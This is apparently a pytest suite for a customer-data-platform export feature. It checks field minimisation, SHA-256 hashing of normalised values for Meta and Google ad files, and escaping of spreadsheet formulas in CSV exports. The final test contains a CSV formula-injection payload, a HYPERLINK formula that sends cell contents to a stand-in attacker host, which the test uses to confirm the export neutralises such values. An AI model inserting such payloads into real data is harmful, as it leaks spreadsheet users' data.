"""Minimisation (a destination only ever receives its fields) and the hashed ad-platform files
(SHA-256 of the platform-normalised value, the platform's headers, never hashed twice)."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import pytest
import sqlalchemy as sa

from cdp.exports.run import run_export
from tests.exports.conftest import World
from tests.exports.receiver import Receiver, running

FULL = {
    "email": "a.b+vip@Example.com",
    "phone": "+14155550132",
    "first_name": "Zelda",
    "last_name": "Quint",
    "city": "San Francisco",
    "state": "CA",
    "postal_code": "94105",
    "country": "US",
    "gender": "f",
    "birthday": "1990-04-05",
    "street": "1 Main St",
}
NAME_VALUES = ("Zelda", "Quint", "zelda", "quint")


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _run(world: World, dest: str, purpose: str):  # type: ignore[no-untyped-def]
    return run_export(
        runtime=world.rt,
        ctx=world.ctx(purpose, name=dest),
        segment="everyone",
        destination=dest,
        clock=world.clock,
    )


@pytest.mark.parametrize("kind", ["csv", "jsonl", "meta", "google"])
def test_email_only_destination_never_receives_a_name(world: World, kind: str) -> None:
    for _ in range(3):
        world.person(FULL)
    purpose = "ad_audiences" if kind in ("meta", "google") else "email_marketing"
    world.destination("only-email", kind, purpose, ["email"], min_audience=1)
    result = _run(world, "only-email", purpose)
    text = Path(result.manifest["outputs"][0]["path"]).read_text()
    for value in (*NAME_VALUES, _sha("zelda"), _sha("quint"), "San Francisco", "94105"):
        assert value not in text
    header = text.splitlines()[0]
    if kind == "jsonl":
        assert set(json.loads(header)) == {"email"}
    else:
        assert header in ("email", "Email")
    # and only the email was decrypted
    t = sa.table("audit_log", sa.column("action"), sa.column("fields"), sa.column("request_id"))
    with world.rt.data_engine.connect() as conn:
        fields = (
            conn.execute(
                sa.select(t.c.fields).where(
                    t.c.action == "decrypt", t.c.request_id == result.export_id
                )
            )
            .scalars()
            .all()
        )
    assert fields and all(json.loads(f) == ["email"] for f in fields)


def test_email_only_webhook_never_receives_a_name(world: World) -> None:
    world.person(FULL)
    with running(Receiver()) as rx:
        created = world.destination(
            "hook", "webhook", "email_marketing", ["email"], min_audience=1, url=rx.url
        )
        rx.secret = created.signing_secret or ""
        _run(world, "hook", "email_marketing")
    assert rx.rows == [{"email": FULL["email"]}]


# (raw value, Meta-normalised, Google-normalised) per platform documentation
TRICKY_EMAILS = [
    ("  John.Doe+Shop@GMail.com ", "john.doe+shop@gmail.com", "johndoe@gmail.com"),
    ("J.Doe@googlemail.com", "j.doe@googlemail.com", "jdoe@googlemail.com"),
    ("user.name+NYC@Example.com", "user.name+nyc@example.com", "user.name+nyc@example.com"),
    ("ZOË@Example.COM", "zoë@example.com", "zoë@example.com"),
]
TRICKY_PHONES = [  # (raw, country, E.164)
    ("(415) 555-0132", "US", "+14155550132"),
    ("020 7946 0958", "GB", "+442079460958"),
    ("0049 30 901820", "DE", "+4930901820"),
    ("138 0013 8000", "CN", "+8613800138000"),
]


def _rows(path: str) -> list[dict[str, str]]:
    with Path(path).open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_meta_and_google_files_hash_normalised_values(world: World) -> None:
    expected_meta: list[dict[str, str]] = []
    expected_google: list[dict[str, str]] = []
    for (email, meta_email, google_email), (phone, country, e164) in zip(
        TRICKY_EMAILS, TRICKY_PHONES, strict=True
    ):
        world.person(
            {
                "email": email,
                "phone": phone,
                "country": country,
                "first_name": " José ",
                "last_name": "Pérez",
            }
        )
        expected_meta.append(
            {
                "email": _sha(meta_email),
                "phone": _sha(e164[1:]),
                "fn": _sha("jose"),
                "ln": _sha("perez"),
                "country": _sha(country.lower()),
            }
        )
        expected_google.append(
            {
                "Email": _sha(google_email),
                "Phone": _sha(e164),
                "First Name": _sha("josé"),
                "Last Name": _sha("pérez"),
                "Country": country,
            }
        )
    already = _sha("hashed@example.com")
    world.person({"email": already.upper(), "country": "US"})
    expected_meta.append({"email": already, "phone": "", "fn": "", "ln": "", "country": _sha("us")})
    expected_google.append(
        {"Email": already, "Phone": "", "First Name": "", "Last Name": "", "Country": "US"}
    )
    fields = ["email", "phone", "first_name", "last_name", "country"]
    world.destination("meta", "meta", "ad_audiences", fields, min_audience=1)
    world.destination("google", "google", "ad_audiences", fields, min_audience=1)
    meta = _rows(_run(world, "meta", "ad_audiences").manifest["outputs"][0]["path"])
    google = _rows(_run(world, "google", "ad_audiences").manifest["outputs"][0]["path"])
    assert list(meta[0]) == ["email", "phone", "fn", "ln", "country"]
    assert list(google[0]) == ["Email", "Phone", "First Name", "Last Name", "Country"]
    key_m = lambda r: r["email"]  # noqa: E731
    key_g = lambda r: r["Email"]  # noqa: E731
    assert sorted(meta, key=key_m) == sorted(expected_meta, key=key_m)
    assert sorted(google, key=key_g) == sorted(expected_google, key=key_g)


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_csv_files_defuse_spreadsheet_formulas(world: World, kind: str) -> None:
    """A name such as ``=HYPERLINK(...)`` (set by a rectification, or ingested as a name) ran as
    a formula when a marketer opened the CSV export in a spreadsheet. CSV cells that start like
    a formula get a leading ``'``; a phone (E.164: ``+`` and digits) is left as it is, and JSON
    Lines carry the values exactly as stored."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    world.person({**FULL, "first_name": evil, "last_name": "-Quint", "city": "@home"})
    fields = ["email", "phone", "first_name", "last_name", "city"]
    world.destination("people", kind, "email_marketing", fields, min_audience=1)
    result = _run(world, "people", "email_marketing")
    path = Path(result.manifest["outputs"][0]["path"])
    if kind == "jsonl":
        row = json.loads(path.read_text().splitlines()[0])
        assert (row["first_name"], row["last_name"], row["city"]) == (evil, "-Quint", "@home")
        return
    with path.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["first_name"] == "'" + evil
    assert (rows[0]["last_name"], rows[0]["city"]) == ("'-Quint", "'@home")
    assert rows[0]["phone"] == FULL["phone"] and rows[0]["email"] == FULL["email"]
